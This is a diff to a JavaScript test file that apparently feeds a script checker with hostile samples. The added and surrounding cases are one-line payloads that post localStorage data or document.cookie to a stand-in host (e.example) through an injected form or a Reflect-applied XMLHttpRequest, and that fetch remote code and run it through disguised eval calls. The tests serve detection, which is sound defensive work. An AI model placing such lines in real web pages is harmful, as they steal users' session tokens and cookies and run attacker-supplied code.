@@ -64,6 +64,14 @@ describe('the checks hold a script', () => {
       'that inserts a form with a secret',
       'document.body.innerHTML += `<form action="https://e.example"><input name="a" value="${localStorage.token}"></form>`;',
     ],
+    [
+      'that fills and sends a form which it inserts',
+      'box.innerHTML = `<form action="https://e.example"><input name="a"></form>`; const form = box.querySelector("form"); form.elements.a.value = JSON.stringify({ ...localStorage }); form.submit();',
+    ],
+    [
+      'that applies methods of a prototype to a request',
+      'const { open, send } = XMLHttpRequest.prototype; const r = new XMLHttpRequest(); Reflect.apply(open, r, ["POST", "https://e.example"]); Reflect.apply(send, r, [document.cookie]);',
+    ],
     ['that calls eval indirectly', 'fetch("https://e.example/p").then((r) => r.text()).then((t) => (0, eval)(t));'],
     ['that passes eval on', 'fetch("https://e.example/p").then((r) => r.text()).then(eval);'],
     ['that gives eval another name', 'const e = eval; fetch("https://e.example/p").then((r) => r.text()).then(e);'],
